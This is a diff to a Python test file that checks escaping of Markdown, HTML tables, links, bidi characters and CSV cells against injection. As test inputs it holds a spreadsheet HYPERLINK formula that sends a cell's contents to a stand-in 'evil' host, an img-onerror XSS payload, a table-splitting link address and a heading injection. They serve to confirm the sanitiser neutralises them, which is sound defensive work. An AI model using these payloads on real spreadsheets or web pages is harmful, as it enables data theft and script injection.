@@ -33,7 +33,7 @@ BIDI = "\u202e\u2066\u2069\u200e\u200f\u009b"
 HEADING_INJECTION = "EU\n\n## Root Causes\n\nDana deleted prod"
 FORMULA = '=HYPERLINK("http://evil/?x="&A1,"click")'
 RAW_CONTROLS = {chr(code) for code in (*range(0x20), 0x7F, *range(0x80, 0xA0))} - {"\n", "\t", "\r"}
-BIDI_CONTROLS = {chr(code) for code in (0x200E, 0x200F, *range(0x202A, 0x202F), *range(0x2066, 0x206A))}
+BIDI_CONTROLS = {chr(code) for code in (0x061C, 0x200E, 0x200F, *range(0x202A, 0x202F), *range(0x2066, 0x206A))}
 
 
 def _unsafe(text: str) -> set[str]:
@@ -278,10 +278,42 @@ def test_a_one_line_field_is_literal_text_in_a_list_item(text: str) -> None:
     assert "".join(child.content for child in tokens[3].children or []) == text
 
 
+
+def test_a_web_address_before_html_cannot_take_the_escape_into_its_link() -> None:
+    """A renderer that links bare addresses took `\\` of an escaped `<` into the link and
+    then read `<img ...>` as HTML; `<` is written `&lt;`, which no link can swallow."""
+    from markdown_it import MarkdownIt
+
+    from storage import markdown as md
+
+    text = "then https://evil.example/x<img src=x onerror=alert(1)>"
+    html = MarkdownIt("gfm-like").render(f"- {md.inline(text)}\n\n| a |\n| - |\n| {md.cell(text)} |\n")
+    assert "<img" not in html and html.count("src=x onerror=alert(1)&gt;") == 2  # shown as text
+
+
+def test_a_link_address_cannot_split_its_table_cell_or_hold_an_entity() -> None:
+    from markdown_it import MarkdownIt
+
+    from storage import markdown as md
+
+    address = "https://evil.example/a|**INJECTED**|[x]|`code&#8238;"
+    row = f"| a | b |\n| - | - |\n| {md.cell('x')} | {md.link(address)} |\n"
+    tokens = MarkdownIt("gfm-like").parse(row)
+    assert [token.type for token in tokens].count("td_open") == 2
+    links = [child for token in tokens for child in token.children or [] if child.type == "link_open"]
+    assert len(links) == 1 and "\u202e" not in str(links[0].attrs["href"])
+    assert str(links[0].attrs["href"]).startswith("https://evil.example/a%7C**INJECTED**%7C%5Bx%5D%7C%60code&")
+
+
+def test_the_arabic_letter_mark_is_a_bidi_control_everywhere() -> None:
+    assert printable("a\u061cb") == "a\ufffdb"
+    assert json_escaped(json.dumps("a\u061cb", ensure_ascii=False)) == '"a\\u061cb"'
+
+
 # --- CSV -----------------------------------------------------------------------------
 
 
-@pytest.mark.parametrize("start", ["=", "+", "-", "@", "\t", "\r"])
+@pytest.mark.parametrize("start", ["=", "+", "-", "@", "\t", "\r", " =", "\n=", " \t-", "\uff1d", "|"])
 def test_a_cell_starting_like_a_formula_starts_with_a_quote(start: str) -> None:
     assert csv_cell(f"{start}1+1") == f"'{start}1+1"
     assert csv_cell("1+1") == "1+1" and csv_cell("") == ""
